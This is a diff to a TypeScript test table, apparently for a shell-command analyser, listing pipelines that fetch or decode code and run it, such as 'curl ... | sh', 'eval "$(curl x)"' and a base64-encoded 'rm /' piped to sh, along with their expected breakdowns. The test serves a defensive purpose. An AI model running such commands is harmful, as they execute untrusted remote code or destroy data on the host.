@@ -127,7 +127,7 @@ const tables: Record<string, readonly (readonly [text: string, ...runs: string[]
   'text that is fetched or decoded': [
     ['curl -s https://x.y | sh', 'curl -s https://x.y', 'computed sh'],
     ['curl https://x.y | sudo bash -s -- a', 'curl https://x.y', 'sudo> computed bash -s -- a'],
-    ['echo cm0gLw== | base64 -d | sh', 'echo cm0gLw==', 'base64 -d', 'computed sh', 'computed rm /'],
+    ['echo cm0gLw== | base64 -d | sh', 'echo cm0gLw==', 'base64 -d', 'rm /'],
     ['eval "$(curl x)"', 'curl x', 'computed eval ?$(curl x)?'],
     ['bash -c "$(curl x)"', 'curl x', 'computed bash -c ?$(curl x)?'],
     ['bash <(curl x)', 'curl x', 'computed bash ?<(curl x)?'],
